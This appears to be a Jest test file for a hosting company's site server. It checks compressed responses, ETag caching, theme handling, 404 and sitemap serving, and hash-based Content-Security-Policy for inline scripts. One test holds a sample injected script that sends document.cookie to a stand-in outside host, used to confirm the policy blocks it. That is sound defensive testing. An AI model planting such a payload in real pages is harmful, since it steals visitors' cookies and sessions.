import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { SHELL_INLINE_SCRIPTS } from '../../server/render/html-shell';
import { inlineHashes } from '../../server/render/inline-hashes';
import { pageOf } from '../../server/render/page-cache';
import { hostingPages } from '../../shared/catalogue/plans';
import { notFoundCopy } from '../../shared/catalogue/site-copy';
import { fetchRaw, type RawResponse } from '../support/fetch-raw';
import { startSite, type SiteServer } from '../support/site-server';

let site: SiteServer;
beforeEach(async () => {
  // A fresh server each time, so the first request of a test is a page's first render.
  site = await startSite();
});
afterEach(() => site.close());

/** The page as the browser reads it. */
function decoded(res: RawResponse): string {
  const coding = res.headers['content-encoding'];
  const body = coding === 'br' ? zlib.brotliDecompressSync(res.body) : coding === 'gzip' ? zlib.gunzipSync(res.body) : res.body;
  const html = body.toString('utf8');
  expect(html).toMatch(/^<!DOCTYPE html>/i);
  expect(html).toContain('</html>');
  return html;
}

const CHROME = { 'accept-encoding': 'gzip, deflate, br, zstd' };
const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

describe('pages on the wire', () => {
  it.each([
    ['br (offered last, as Chrome does)', 'gzip, deflate, br, zstd', 'br'],
    ['gzip', 'gzip', 'gzip'],
    ['nothing', 'identity', undefined],
  ])(
    'when a client that takes %s asks for a page twice (rendered, then kept), then both answers are encoded so and whole',
    async (_label, acceptEncoding, expected) => {
      for (const round of ['first render', 'kept']) {
        const res = await fetchRaw(`${site.url}/server-hosting`, { 'accept-encoding': acceptEncoding });
        expect({ round, status: res.status, coding: res.headers['content-encoding'] }).toEqual({
          round,
          status: 200,
          coding: expected,
        });
        expect(res.headers.vary).toMatch(/accept-encoding/i);
        expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
        expect(decoded(res)).toContain(hostingPages.vps.title);
      }
    },
  );

  it('when a page is kept, then its ETag costs no compression, and a coding is compressed once a client needs its bytes, and once made, never again', async () => {
    const compress = jest.fn((_coding: 'br' | 'gzip', data: Buffer) => Promise.resolve(data));
    const page = pageOf('<p>hi</p>', () => "default-src 'self'", compress);
    compress.mockRejectedValueOnce(new Error('out of memory'));
    await page.body('identity');
    expect(page.etag('br')).toMatch(/-br"$/);
    expect(compress).not.toHaveBeenCalled();
    await expect(page.body('gzip')).rejects.toThrow('out of memory');
    await Promise.all([page.body('gzip'), page.body('gzip')]);
    expect(compress.mock.calls.map(([coding]) => coding)).toEqual(['gzip', 'gzip']);
  });

  it('when many browsers ask at once, then every answer is the same bytes with the same ETag', async () => {
    const answers = await Promise.all(Array.from({ length: 24 }, () => fetchRaw(`${site.url}/`, CHROME)));
    expect(new Set(answers.map((res) => res.status))).toEqual(new Set([200]));
    expect(new Set(answers.map((res) => res.body.toString('base64'))).size).toBe(1);
    expect(new Set(answers.map((res) => res.headers.etag)).size).toBe(1);
    expect(decoded(answers[0] as RawResponse)).toContain('Managed IT');
  });

  it('when a visitor comes back with the ETag of the page it has, then the answer is a 304 with no body', async () => {
    const first = await fetchRaw(`${site.url}/about`, CHROME);
    expect(first.headers.etag).toMatch(/^"[\w-]+-br"$/);
    expect(first.headers['cache-control']).toBe('no-cache');
    const again = await fetchRaw(`${site.url}/about`, { ...CHROME, 'if-none-match': first.headers.etag as string });
    expect(again.status).toBe(304);
    expect(again.body.length).toBe(0);
  });

  it('when the page it has is another theme or coding, then the visitor gets the whole page again', async () => {
    const dark = await fetchRaw(`${site.url}/about`, CHROME);
    const light = await fetchRaw(`${site.url}/about`, {
      ...CHROME,
      cookie: 'theme=light',
      'if-none-match': dark.headers.etag as string,
    });
    expect(light.status).toBe(200);
    expect(decoded(light)).toContain('data-theme="light"');
    const gzip = await fetchRaw(`${site.url}/about`, { 'accept-encoding': 'gzip', 'if-none-match': dark.headers.etag as string });
    expect(gzip.status).toBe(200);
    expect(light.headers.vary).toMatch(/cookie/i);
  });

  it('when a page is served, then its CSP allows exactly its own inline scripts and styles by hash, never by nonce or unsafe-inline', async () => {
    const res = await fetchRaw(`${site.url}/server-hosting`, CHROME);
    const csp = String(res.headers['content-security-policy']);
    const html = decoded(res);
    expect(csp).not.toMatch(/nonce-|unsafe-inline/);
    const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
    const styleSrc = /style-src ([^;]*)/.exec(csp)?.[1] ?? '';
    const inlineScripts = [
      ...html.matchAll(/<script(?![^>]*\ssrc=)(?![^>]*application\/(?:ld\+)?json)[^>]*>([\s\S]*?)<\/script>/g),
    ];
    const styles = [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)];
    expect(inlineScripts.length).toBeGreaterThan(0);
    expect(styles.length).toBeGreaterThan(0);
    for (const [, body = ''] of inlineScripts) expect(scriptSrc).toContain(sha256(body));
    for (const [, body = ''] of styles) expect(styleSrc).toContain(sha256(body));
    // Emotion's runtime sheet in the browser: an empty <style> filled by insertRule.
    expect(styleSrc).toContain(sha256(''));
    expect(scriptSrc.split(' ')).toHaveLength(1 + new Set(inlineScripts.map(([, body]) => body)).size);
  });

  it("when a page's HTML holds an inline script the shell did not write, then its CSP does not allow it", () => {
    const injected = 'fetch("https://elsewhere.example/?c="+document.cookie)';
    const { script, style } = inlineHashes(
      `<html><head><script>${SHELL_INLINE_SCRIPTS[0]}</script><style>p{color:red}</style></head><body><script>${injected}</script></body></html>`,
    );
    expect(script).toEqual(SHELL_INLINE_SCRIPTS.map(sha256));
    expect(script).not.toContain(sha256(injected));
    expect(style).toContain(sha256('p{color:red}'));
  });

  it('when the 404 page is asked for with br, then it is a compressed 404', async () => {
    const res = await fetchRaw(`${site.url}/no-such-page`, { 'accept-encoding': 'br' });
    expect(res.status).toBe(404);
    expect(res.headers['content-encoding']).toBe('br');
    expect(decoded(res)).toContain(notFoundCopy.heading);
  });

  it('when the sitemap is asked for with gzip, then the compression middleware compresses it', async () => {
    const res = await fetchRaw(`${site.url}/sitemap.xml`, { 'accept-encoding': 'gzip' });
    expect(res.status).toBe(200);
    expect(res.headers['content-encoding']).toBe('gzip');
    expect(zlib.gunzipSync(res.body).toString()).toContain('<urlset');
  });
});
